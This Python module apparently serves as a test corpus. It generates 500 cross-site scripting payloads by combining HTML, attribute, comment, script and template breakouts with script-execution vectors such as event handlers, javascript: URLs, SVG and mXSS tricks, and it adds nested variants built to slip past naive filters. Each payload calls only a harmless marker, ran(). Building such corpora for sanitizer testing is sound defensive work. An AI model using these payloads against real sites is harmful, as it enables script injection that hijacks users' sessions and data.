"""Five hundred texts that would run ``ran()`` in a reader's browser if a page put them in as they are.

Each is one way out of where a text may stand (an element, an attribute, a comment, a script, a template)
joined to one way of running something, as it is and disguised as filters have been passed before.
"""

from collections.abc import Callable
from itertools import product
from typing import Final

WAYS_OUT: Final = (
    "",
    '">',
    "'>",
    "</title></textarea></style>",
    "-->",
    "</script>",
    "]]>",
    '" autofocus onfocus="ran()" x="',
    "{{''}}{% raw %}",
    "\x00&#0;\u2028",
)

WAYS_TO_RUN: Final = (
    "<script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:ran()><text y=9>x</text></a></svg>",
    "<math><mi xlink:href=javascript:ran()>x</mi></math>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=javascript:parent.ran()></iframe>",
    "<object data=javascript:ran()></object>",
    "<embed src=javascript:ran()>",
    "<a href=javascript:ran()>x</a>",
    "<a href='java\tscript:ran()'>x</a>",
    "<a href='&#106;avascript&colon;ran()'>x</a>",
    "<a href='data:text/html,<script>opener.ran()</script>'>x</a>",
    "<form action=javascript:ran()><input type=submit></form>",
    "<button formaction=javascript:ran() form=x>x</button><form id=x></form>",
    "<details open ontoggle=ran()>x</details>",
    "<video><source onerror=ran()></video>",
    "<input autofocus onfocus=ran()>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=ran()>x</b>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "<base href='javascript:/a/-ran()//'>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<p>x<table><td background=javascript:ran()><img src=x onerror='ran()'",
)


def _nested(text: str) -> str:
    """Whole again once somebody takes out what looks dangerous."""
    return text.replace("script", "scr<script>ipt").replace("<img", "<<b>img").replace("on", "oonn")


DISGUISES: Final[tuple[Callable[[str], str], ...]] = (str, _nested)

PAYLOADS: Final = tuple(
    way_out + disguise(way_to_run)
    for disguise, way_out, way_to_run in product(DISGUISES, WAYS_OUT, WAYS_TO_RUN)
)
